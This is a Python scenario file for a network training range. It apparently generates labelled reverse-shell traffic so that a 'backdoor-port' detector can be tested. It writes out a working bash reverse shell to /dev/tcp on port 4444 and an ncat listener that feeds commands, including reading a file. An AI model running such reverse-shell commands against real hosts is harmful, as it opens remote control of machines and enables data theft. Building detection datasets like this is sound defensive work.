"""bash of an inside host calls a listener outside at 4444."""

from lab.range import Range
from lab.scenario import Scenario

# What the orders bring to light is the range's own, not the computer's on which it runs.
ORDERS = "for order in id 'uname -s' 'cat notes.txt' 'date +%s' id; do sleep 2; echo $order; done; sleep 2"


def run(net: Range) -> None:
    victim, listener = net.inside("pc3"), net.outside("attacker")
    net.everyday()
    net.loop(victim, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.2)
    (victim.folder / "run" / "notes.txt").write_text("call the printer people; order lamps\n" * 20)
    with net.attack(
        "backdoor-port",
        by=[victim, listener],
        attackers=[listener],
        victims=[victim],
        others={"client": [victim], "server": [listener]},
        also=["reverse-shell"],
        frames=f"tcp and host {listener.ip} and port 4444",
    ):
        net.start(listener, "bash", "-c", f"({ORDERS}) | ncat -l -n 4444")
        net.quiet(0.7)
        shell = f"cd /run; PS1='$ ' bash --norc -i >& /dev/tcp/{listener.ip}/4444 0>&1"
        net.tool(victim, "bash", "-c", shell, seconds=14)
    net.quiet(2)


SCENARIO = Scenario(
    name="backdoor-port-held-bash",
    about="bash of an inside host calls port 4444 of a machine outside and does what it says.",
    detectors=("backdoor-port",),
    tools={"ncat": "ncat", "bash": "bash"},
    snap_octets=250,
    run=run,
)
